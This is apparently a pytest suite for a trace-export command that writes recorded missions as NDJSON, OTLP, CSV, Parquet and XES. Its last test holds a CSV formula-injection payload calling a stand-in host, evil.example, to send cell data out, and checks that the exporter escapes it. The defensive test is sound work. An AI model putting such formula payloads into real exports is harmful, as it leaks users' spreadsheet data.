"""`quartermaster export`: what other programs read is what was recorded, whole or not there at all."""

import csv
import io
import json
import subprocess
import xml.etree.ElementTree as ElementTree
from pathlib import Path
from typing import Any

import pytest
from running import PROGRAM

from quartermaster.cli import execute
from quartermaster.cli.local import open_local
from quartermaster.config import load_settings

XES = "{http://www.xes-standard.org/}"
FORMATS = ("native", "native_document", "claude_code", "codex_cli", "otlp_json_lines", "tau_bench")


def opened(home: Path) -> Any:
    home.mkdir(exist_ok=True)
    return open_local(load_settings(home=home, flags={}, environment={}, directory=home), None, create=True)


def ingested(home: Path, *paths: Path) -> Path:
    target = opened(home)
    try:
        ledgers = target.ingest(paths, lambda _: None)
    finally:
        target.close()
    assert all(ledger["accepted"] and not ledger["rejected"] for ledger in ledgers)
    return home


def known(home: Path) -> dict[str, Any]:
    """Every mission as it is shown."""
    target = opened(home)
    try:
        return {row["mission_id"]: target.mission(row["mission_id"]) for row in target.missions({}, 500)}
    finally:
        target.close()


def steps(home: Path, table: str, tmp_path: Path) -> list[dict[str, str]]:
    file = tmp_path / f"{home.name}-{table}.csv"
    export(home, "--format", "csv", "--table", table, "--output", file)
    with file.open(newline="", encoding="utf-8") as lines:
        return list(csv.DictReader(lines))


def export(home: Path, *arguments: object) -> None:
    assert execute(["export", "--home", str(home), *map(str, arguments)]) == 0


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    samples = Path(__file__).resolve().parents[2] / "data" / "samples"
    return ingested(tmp_path_factory.mktemp("filled") / "home", *(samples / name for name in FORMATS))


def test_native_lines_make_the_same_missions_elsewhere(filled: Path, tmp_path: Path):
    export(filled, "--output", tmp_path / "all.ndjson")
    again = known(ingested(tmp_path / "elsewhere", tmp_path / "all.ndjson"))
    before = known(filled)
    assert set(again) == set(before)
    assert len(before) >= len(FORMATS)
    for mission_id, mission in before.items():
        for same in (
            "signature",
            "signatures",
            "metrics",
            "outcome",
            "task",
            "labels",
            "entries",
            "total_tokens",
        ):
            assert again[mission_id][same] == mission[same], (mission_id, same)
    export(tmp_path / "elsewhere", "--output", tmp_path / "again.ndjson")
    first, second = ((tmp_path / name).read_bytes().split(b"\n") for name in ("all.ndjson", "again.ndjson"))
    assert sorted(first) == sorted(second)


def test_otlp_lines_make_the_same_calls_elsewhere(filled: Path, tmp_path: Path):
    export(filled, "--format", "otlp", "--output", tmp_path / "all.jsonl")
    elsewhere = ingested(tmp_path / "elsewhere", tmp_path / "all.jsonl")
    kept = ("mission_id", "ts", "entry_type", "tool", "tokens", "cost_usd", "success")

    unsaid = {"success": "true"}  # a span without a failure counts as one that went well

    def calls(home: Path) -> list[tuple[str, ...]]:
        told = [
            row for row in steps(home, "steps", tmp_path) if row["entry_type"] in ("llm.call", "exec.command")
        ]
        return sorted(tuple(row[key] or unsaid.get(key, "") for key in kept) for row in told)

    before, after = calls(filled), calls(elsewhere)
    assert len(before) > 50
    assert after == before
    for line in (tmp_path / "all.jsonl").read_text().splitlines():
        (resource,) = json.loads(line)["resourceSpans"]
        assert len(resource["scopeSpans"][0]["spans"]) <= 500


def test_tables_hold_what_the_missions_say(filled: Path, tmp_path: Path):
    rows = {row["mission_id"]: row for row in steps(filled, "missions", tmp_path)}
    before = known(filled)
    assert set(rows) == set(before)
    for mission_id, mission in before.items():
        row = rows[mission_id]
        assert row["task"] == (mission["task"] or "")
        assert row["total_tokens"] == (
            "" if mission["total_tokens"] is None else str(mission["total_tokens"])
        )
        assert (row["started_at"] or None) == mission["started_at"]
    metrics = steps(filled, "metrics", tmp_path)
    told = {(row["mission_id"], row["metric"]): row["value"] for row in metrics}
    for mission_id, mission in before.items():
        for metric in mission["metrics"]:
            value = metric["value"]
            if value is None:
                assert told[mission_id, metric["name"]] == ""
            elif isinstance(value, int | float):
                assert float(told[mission_id, metric["name"]]) == value
    counted = {name: mission["steps"] for name, mission in before.items() if mission["steps"]}
    listed: dict[str, int] = {}
    for row in steps(filled, "steps", tmp_path):
        listed[row["mission_id"]] = listed.get(row["mission_id"], 0) + 1
    assert listed == counted


@pytest.mark.parametrize("table", ["missions", "steps", "metrics"])
def test_parquet_holds_the_rows_of_csv_with_types(table: str, filled: Path, tmp_path: Path):
    parquet = pytest.importorskip("pyarrow.parquet")
    export(filled, "--format", "parquet", "--table", table, "--output", tmp_path / "t.parquet")
    read = parquet.read_table(tmp_path / "t.parquet")
    rows = steps(filled, table, tmp_path)
    assert read.num_rows == len(rows)
    assert list(read.column_names) == list(rows[0])
    for name in ("mission_id", "variant"):
        assert [value or "" for value in read[name].to_pylist()] == [row[name] for row in rows]


def test_an_event_log_has_a_trace_a_mission_and_an_event_a_step(filled: Path, tmp_path: Path):
    export(filled, "--format", "xes", "--output", tmp_path / "all.xes")
    log = ElementTree.parse(tmp_path / "all.xes").getroot()
    assert (log.tag, log.get("xes.version")) == (f"{XES}log", "1849.2016")
    order = [child.tag.removeprefix(XES) for child in log]
    ranks = ("extension", "global", "classifier", "trace")
    assert [ranks.index(tag) for tag in order] == sorted(ranks.index(tag) for tag in order)
    declared = {one.get("prefix") for one in log.iter(f"{XES}extension")}
    counts = {}
    for trace in log.iter(f"{XES}trace"):
        about = {one.get("key"): one.get("value") for one in trace if one.get("key")}
        events = trace.findall(f"{XES}event")
        for event in events:
            given = {one.get("key"): one.tag.removeprefix(XES) for one in event}
            assert given["concept:name"] == "string"
            assert given["time:timestamp"] == "date"
            assert {key.partition(":")[0] for key in given if ":" in key} <= declared
            assert set(given.values()) <= {"string", "date", "int", "float", "boolean"}
        counts[about["concept:name"]] = len(events)
    assert counts == {name: mission["steps"] for name, mission in known(filled).items()}


def test_selections_and_filters_choose_missions(filled: Path, tmp_path: Path):
    def exported(*arguments: str) -> set[str]:
        export(filled, *arguments, "--format", "csv", "--output", tmp_path / "some.csv")
        return {row["mission_id"] for row in csv.DictReader(io.StringIO((tmp_path / "some.csv").read_text()))}

    both = {"demo-login-fix-baseline", "demo-login-fix-candidate"}
    assert exported(",".join(sorted(both))) == both
    assert exported("--q", "demo-login-fix") == both
    assert exported("--trace-format", "claude_code") == {
        name for name, mission in known(filled).items() if mission["format"] == "claude_code"
    }
    assert exported("--task", "no such task") == set()


def test_a_failed_export_leaves_the_file_that_was_there(filled: Path, tmp_path: Path, capsys):
    target = tmp_path / "kept.csv"
    target.write_text("before")
    assert execute(["export", "no-such-mission", "--home", str(filled), "--output", str(target)]) == 2
    assert execute(["export", "x", "--q", "y", "--home", str(filled), "--output", str(target)]) == 2
    assert execute(["export", "--format", "parquet", "--home", str(filled)]) == 2
    assert execute(["export", "--home", str(filled), "--output", str(tmp_path / "none" / "file")]) == 2
    assert [path.name for path in tmp_path.iterdir()] == ["kept.csv"]
    assert target.read_text() == "before"
    assert "name one with --output" in capsys.readouterr().err


def test_a_reader_that_goes_away_is_no_fault(filled: Path):
    script = '"$@" | head -c 10'
    command = ["bash", "-o", "pipefail", "-c", script, "-", *PROGRAM, "export", "--home", str(filled)]
    done = subprocess.run(command, check=False, capture_output=True, timeout=60)
    assert done.returncode in (0, 141)
    assert (len(done.stdout), done.stderr) == (10, b"")


def test_a_text_that_a_spreadsheet_would_compute_stays_a_text(tmp_path: Path):
    hostile = '=HYPERLINK("http://evil.example?"&A1)'
    names = {hostile: "'" + hostile, "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "a=b": "a=b"}
    entries = [
        {"mission_id": f"m-{number}", "ts": "2026-01-01T00:00:00Z", "entry_type": "mission.created"}
        | {"payload": {"title": name}}
        for number, name in enumerate(names)
    ]
    file = tmp_path / "hostile.ndjson"
    file.write_text("".join(json.dumps(entry) + "\n" for entry in entries))
    rows = steps(ingested(tmp_path / "home", file), "missions", tmp_path)
    assert {row["title"] for row in rows} == set(names.values())
